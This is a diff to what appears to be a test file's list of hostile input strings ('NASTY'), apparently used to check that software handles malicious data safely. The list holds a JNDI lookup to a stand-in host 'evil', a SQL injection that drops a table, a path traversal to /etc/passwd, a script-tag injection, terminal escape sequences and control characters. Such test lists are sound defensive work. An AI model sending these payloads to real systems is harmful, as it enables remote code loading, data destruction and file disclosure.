@@ -38,10 +38,10 @@ NASTY = [
     "\x85ERROR forged",
     "\x1b[2J\x1b[1;1H\x1b]0;owned\x07",
     "\x9b2J",
-    "${jndi:ldap://evil}",
+    "$ {jndi:ldap://evil}",
     "'; DROP TABLE MarketDataState; --",
-    "../../etc/passwd",
-    "<script>alert(1)</script>",
+    "../../etc/passwd\t",
+    "<script>alert('a b')</script>",
     "A\x00B",
     "\u202eLPAA",
 ]
